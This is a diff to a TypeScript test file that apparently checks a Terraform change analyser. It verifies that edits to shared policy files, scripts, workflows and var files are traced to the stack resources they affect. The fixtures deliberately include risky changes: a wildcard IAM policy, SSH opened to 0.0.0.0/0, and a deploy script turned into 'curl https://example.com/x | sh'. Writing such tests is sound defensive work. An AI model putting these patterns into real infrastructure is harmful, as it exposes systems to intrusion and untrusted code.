@@ -83,6 +83,82 @@ describe('the trees a change reaches', () => {
   });
 });
 
+/** A root at the top of the repository (its own state), a stack beside it, and what the stack's code reads. */
+const withTopRoot = (stack: string, read: Record<string, string>) => ({
+  'main.tf': 'resource "aws_s3_bucket" "logs" {\n  bucket = "logs"\n}\n',
+  'stacks/app/main.tf': stack,
+  ...read,
+});
+const policyRead = (path: string) =>
+  `variable "policies" {\n  type    = string\n  default = "../../policies"\n}\n\nresource "aws_iam_policy" "deploy" {\n  name   = "deploy"\n  policy = file(${path})\n}\n`;
+const OPEN = '{"Statement":[{"Effect":"Allow","Action":"*","Resource":"*"}]}\n';
+const NARROW = '{"Statement":[{"Effect":"Allow","Action":"s3:GetObject","Resource":"arn:aws:s3:::logs/*"}]}\n';
+
+describe('a changed file read by code in another module’s directory', () => {
+  // The policy lies under the top root's directory, so it is that root's file; the stack reads it.
+  it.each([
+    ['a path from the module', policyRead('"${path.module}/../../policies/deploy.json"'), 'policies/deploy.json'],
+    [
+      'a path known only at apply time',
+      policyRead('"${path.module}/${var.policies}/deploy.json"'),
+      'policies/deploy.json',
+    ],
+    [
+      'a path from the root (where Terraform runs)',
+      policyRead('"${path.root}/../../policies/deploy.json"'),
+      'policies/deploy.json',
+    ],
+  ])('is judged as the whole trees judge it: %s', (_name, stack, policyPath) => {
+    const base = tree(withTopRoot(stack, { [policyPath]: NARROW }));
+    const head = tree(withTopRoot(stack, { [policyPath]: OPEN }));
+    const narrowed = throughReach(base, head);
+    expect(judged(narrowed)).toEqual(judged(buildChangeSet(base, head)));
+    expect(narrowed.changes.map((change) => change.address)).toEqual(['aws_iam_policy.deploy']);
+  });
+
+  it('is judged as the whole trees judge it: a script a provisioner runs', () => {
+    const stack =
+      'resource "terraform_data" "deploy" {\n  provisioner "local-exec" {\n    command = "bash ${path.module}/../../scripts/deploy.sh"\n  }\n}\n';
+    const base = tree(withTopRoot(stack, { 'scripts/deploy.sh': 'echo deploy\n' }));
+    const head = tree(withTopRoot(stack, { 'scripts/deploy.sh': 'curl https://example.com/x | sh\n' }));
+    const narrowed = throughReach(base, head);
+    expect(judged(narrowed)).toEqual(judged(buildChangeSet(base, head)));
+    expect(narrowed.changes.map((change) => change.address)).toEqual(['terraform_data.deploy']);
+  });
+
+  it('is judged as the whole trees judge it: a workflow setting a variable of a stack (TF_VAR_)', () => {
+    const stack =
+      'variable "ssh_cidrs" {\n  type = list(string)\n}\n\nresource "aws_security_group" "bastion" {\n  ingress {\n    from_port   = 22\n    to_port     = 22\n    protocol    = "tcp"\n    cidr_blocks = var.ssh_cidrs\n  }\n}\n';
+    const workflow = (cidr: string) =>
+      `on: push\njobs:\n  apply:\n    runs-on: ubuntu-latest\n    env:\n      TF_VAR_ssh_cidrs: '["${cidr}"]'\n    steps:\n      - run: terraform -chdir=stacks/app apply -auto-approve\n`;
+    const base = tree(withTopRoot(stack, { '.github/workflows/deploy.yml': workflow('10.0.0.0/16') }));
+    const head = tree(withTopRoot(stack, { '.github/workflows/deploy.yml': workflow('0.0.0.0/0') }));
+    const narrowed = throughReach(base, head);
+    expect(judged(narrowed)).toEqual(judged(buildChangeSet(base, head)));
+    expect(narrowed.changes.map((change) => change.address)).toEqual(['aws_security_group.bastion']);
+  });
+
+  it('is judged as the whole trees judge it: a var file its code reads as a value (decode_tfvars)', () => {
+    const stack =
+      'locals {\n  net = provider::terraform::decode_tfvars(file("${path.module}/../../shared/net.tfvars"))\n}\n\nresource "aws_security_group_rule" "ssh" {\n  type              = "ingress"\n  from_port         = 22\n  to_port           = 22\n  protocol          = "tcp"\n  security_group_id = "sg-1"\n  cidr_blocks       = local.net.cidrs\n}\n';
+    const base = tree(withTopRoot(stack, { 'shared/net.tfvars': 'cidrs = ["10.0.0.0/8"]\n' }));
+    const head = tree(withTopRoot(stack, { 'shared/net.tfvars': 'cidrs = ["0.0.0.0/0"]\n' }));
+    const narrowed = throughReach(base, head);
+    expect(judged(narrowed)).toEqual(judged(buildChangeSet(base, head)));
+    expect(narrowed.changes.map((change) => change.address)).toEqual(['aws_security_group_rule.ssh']);
+  });
+
+  it('leaves out code that reads no file (quiet guard: the cut stays a cut)', () => {
+    const files = (policy: string) => ({
+      ...withTopRoot(policyRead('"${path.module}/../../policies/deploy.json"'), { 'policies/deploy.json': policy }),
+      'other/main.tf': 'resource "aws_s3_bucket" "b" {\n  bucket = "b"\n}\n',
+    });
+    expect(reachedTrees(tree(files(NARROW)), tree(files(OPEN))).outOfReach.map((f) => f.path)).toEqual([
+      'other/main.tf',
+    ]);
+  });
+});
+
 describe('on every fixture pair, the change set through reach is the whole trees’ change set', () => {
   it.each([
     'examples/iam-change',
